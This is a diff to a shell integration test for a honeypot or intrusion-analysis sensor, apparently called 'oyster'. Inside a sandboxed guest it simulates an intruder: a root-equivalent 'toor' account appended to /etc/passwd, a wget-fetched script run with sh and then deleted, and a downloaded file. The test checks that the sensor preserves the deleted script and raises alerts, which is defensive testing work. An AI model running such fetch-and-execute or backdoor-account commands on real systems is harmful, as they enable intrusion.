@@ -38,6 +38,9 @@ KEEP_ON_FAILURE="$EVENTS $WORK/sensor.log"
 mkdir -p "$WORK/www"
 # Big enough that the guest's pcap (rotated at 1 MiB) takes several files.
 head -c 1500000 /dev/urandom > "$WORK/www/tool.bin"
+# A script fetched, run with sh and deleted: only the guest kernel's kept
+# copy is left of it for the analysis.
+printf '#!/bin/sh\necho run-sh-ran\n# %s\n' "$RANDOM$RANDOM" > "$WORK/www/run.sh"
 # The YARA rules: the shipped ones and one written for that file.
 mkdir -p "$WORK/yara"
 cp "$DATA_DIR"/rules/yara/*.yar "$WORK/yara/"
@@ -148,6 +151,8 @@ portal_ssh $A10 'echo "toor:x:0:0::/root:/bin/bash" >> /etc/passwd; rm /etc/motd
 	fail "the intruder's changes did not run"
 out=$(portal_ssh $A10 "wget -q -O /root/tool.bin http://$WEB_IP/tool.bin && sha256sum /root/tool.bin")
 [ "${out%% *}" = "$(sha256sum "$WORK/www/tool.bin" | cut -d' ' -f1)" ] || fail "download from the web failed: $out"
+out=$(portal_ssh $A10 "wget -q -O /root/run.sh http://$WEB_IP/run.sh && sh /root/run.sh; rm -f /root/run.sh")
+[ "$out" = run-sh-ran ] || fail "the fetched script did not run: $out"
 # Live capture: the download is on the sensor's bus while the guest runs,
 # with the attacker's address, its exec and its connection to the web server.
 for _ in $(seq 20); do
@@ -288,10 +293,10 @@ mkdir -p "$shots"
 OYSTER_TOKEN="$token" nsenter --net="/run/netns/$NS_SENSOR" node "$DATA_DIR/web/tests/ui_check.mjs" session \
 	http://127.0.0.1:8080 "$typed_sid" "$wget_sid" "$shots" || fail "the web UI check failed"
 log "web UI: checked in Chromium; screenshots in $shots"
-# The download was connection 1 of TCP_CAP; use up the rest, then one more.
+# The downloads were connections 1 and 2 of TCP_CAP; use up the rest, then one more.
 out=$(portal_ssh $A10 "bash -c '$probe' probe $(for _ in $(seq $TCP_CAP); do printf '%s ' "$WEB_IP:80"; done)")
 echo "$out" | sed 's/^/    guest10> /' >&2
-[ "$(echo "$out" | grep -c REACHED)" = $((TCP_CAP - 1)) ] || fail "expected $((TCP_CAP - 1)) more connections: $out"
+[ "$(echo "$out" | grep -c REACHED)" = $((TCP_CAP - 2)) ] || fail "expected $((TCP_CAP - 2)) more connections: $out"
 wait_for 10 "select(.type==\"drop\" and .reason==\"tcp_cap\" and .guest_id==\"$g10\" and .cap_hit)" "the cap-hit event"
 wait_for 10 "select(.type==\"drop\" and .reason==\"host\" and .guest_id==\"$g10\")" "the drop event for the host"
 # Mail: goes to the sink, never to the real server.
@@ -440,13 +445,13 @@ log "oyster files (stored analysis): $(jq '.files | length' "$WORK/files.json") 
 jq -r '.files[] | select(.noise == null) | "\(.change) \(.path): \(.file_type)"' "$WORK/files.json" |
 	sed 's/^/    files> /' >&2
 for want in "changed /etc/passwd" "deleted /etc/motd" "added /root/.ssh/authorized_keys" "added /root/tool.bin" \
-	"added /root/mark" "executed /usr/bin/wget"; do
+	"added /root/mark" "executed /usr/bin/wget" "kept /root/run.sh"; do
 	jq -r '.files[] | "\(.change) \(.path)"' "$WORK/files.json" | matches -x "$want" || fail "oyster files lacks: $want"
 done
 # Nothing else, but for the noise rules and the typed session's history.
 extra=$(jq -r '.files[] | select(.noise == null and .change != "executed") | "\(.change) \(.path)"' "$WORK/files.json" |
 	grep -vx -e "changed /etc/passwd" -e "deleted /etc/motd" -e "added /root/.ssh" -e "added /root/.ssh/authorized_keys" \
-		-e "added /root/tool.bin" -e "added /root/mark" -e "added /root/.bash_history" || true)
+		-e "added /root/tool.bin" -e "added /root/mark" -e "added /root/.bash_history" -e "kept /root/run.sh" || true)
 [ -z "$extra" ] || fail "oyster files lists changes nobody made: $extra"
 tool_sha=$(sha256sum "$WORK/www/tool.bin" | cut -d' ' -f1)
 [ "$(jq -r '.files[] | select(.path == "/root/tool.bin" and .change == "added") | .sha256' "$WORK/files.json")" = \
@@ -460,6 +465,12 @@ jq -e '.files[] | select(.change == "executed" and .path == "/usr/bin/wget" and 
 	fail "the executed wget is not an ELF from the base image"
 cmp -s "$STATE_DIR/evidence/sha256/${tool_sha:0:2}/$tool_sha" "$WORK/www/tool.bin" ||
 	fail "the evidence store lacks the downloaded file"
+run_sha=$(sha256sum "$WORK/www/run.sh" | cut -d' ' -f1)
+jq -e --arg s "$run_sha" '.files[] | select(.change == "kept" and .path == "/root/run.sh" and .sha256 == $s
+	and .extracted and .what == ["unlinked"])' "$WORK/files.json" >/dev/null ||
+	fail "the deleted script is not kept: $(jq -c '.files[] | select(.change == "kept")' "$WORK/files.json")"
+cmp -s "$STATE_DIR/evidence/sha256/${run_sha:0:2}/$run_sha" "$WORK/www/run.sh" ||
+	fail "the evidence store lacks the script run with sh and deleted"
 for rule in "test_download_tool_bin /root/tool.bin" "ssh_authorized_key_added /root/.ssh/authorized_keys"; do
 	events | jq_any "select(.type==\"alert\" and .intrusion_id==\"$i10\" and \"\(.rule) \(.path)\" == \"$rule\")" ||
 		fail "no alert: $rule"
